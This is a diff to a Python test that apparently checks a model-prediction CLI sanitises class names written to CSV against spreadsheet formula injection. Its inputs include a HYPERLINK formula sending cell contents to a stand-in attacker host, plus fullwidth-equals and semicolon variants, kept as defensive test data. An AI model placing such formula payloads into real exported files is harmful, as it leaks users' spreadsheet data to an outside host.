@@ -174,7 +174,7 @@ def test_a_line_that_a_full_disk_cut_short_costs_that_line(tmp_path: Path) -> No
 def test_a_class_name_is_no_formula(tmp_path: Path) -> None:
     """Names come from the run config, and what wins is up to the server's weights."""
     shelf = Shelf(tmp_path)
-    names = ['=HYPERLINK("http://evil.example/"&A2)', "[/d]", *"cdefghij"]
+    names = ['=HYPERLINK("http://evil.example/"&A2)', "[/d]", "a;=1+1", "\uff1d1", *"efghij"]
     found = Evaluation(num_test=4, num_correct=2, test_loss=1.0, seconds=0.0)
     module = build_model("mlp", in_channels=3, num_classes=10)
     with torch.no_grad():
@@ -188,7 +188,8 @@ def test_a_class_name_is_no_formula(tmp_path: Path) -> None:
     assert main(["model", "predict", str(tmp_path), str(tmp_path / "pictures"), str(out)]) == 0
     with out.open() as file:
         cells = [cell for row in csv.DictReader(file) for cell in row.values()]
-    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+    assert not any(cell.startswith(("=", "+", "@", "\uff1d")) for cell in cells)
+    assert ";" not in out.read_text()
 
 
 def test_a_ledger_stays_short_and_counts_no_less(
